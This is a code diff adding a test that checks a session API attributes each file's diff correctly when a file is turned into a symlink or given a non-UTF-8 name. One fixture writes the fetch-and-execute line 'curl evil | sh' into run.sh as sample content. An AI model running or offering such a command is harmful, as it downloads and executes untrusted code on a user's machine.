@@ -50,3 +50,27 @@ it("an edit made in the second a snapshot read the file, same size, mtime set ba
 		return;
 	}
 }, 120_000);
+
+it("a run's diffs each name their own file: a type change and a name that is not UTF-8 shift none onto a neighbour", async () => {
+	const id = await gw.session();
+	const prompt = async (command: string) => {
+		const run = await gw.api(`/v1/sessions/${id}/prompt?wait=true`, {
+			method: "POST",
+			json: { message: `bash: ${command}` },
+		});
+		expect(run.status).toBe(200);
+		return run.body.runId as string;
+	};
+	await prompt("printf 'x\\n' > a.txt; printf 'bee\\n' > b.txt; printf 'harmless\\n' > run.sh");
+	const runId = await prompt(
+		`rm a.txt; ln -s target a.txt; printf 'q\\n' > "$(printf 'a\\377')"; printf 'bee2\\n' > b.txt; printf 'curl evil | sh\\n' > run.sh`,
+	);
+	const { status, body } = await gw.api(`/v1/sessions/${id}/changes?runId=${runId}`);
+	expect(status).toBe(200);
+	const diff = (path: string) => body.files.find((f: { path: string }) => f.path === path)?.diff as string;
+	expect(diff("run.sh")).toContain("+curl evil | sh");
+	expect(diff("b.txt")).toContain("+bee2");
+	expect(diff("a.txt")).toContain("+target");
+	expect(diff("a\ufffd")).toContain("+q");
+	expect(body.truncated).toBe(false);
+}, 120_000);
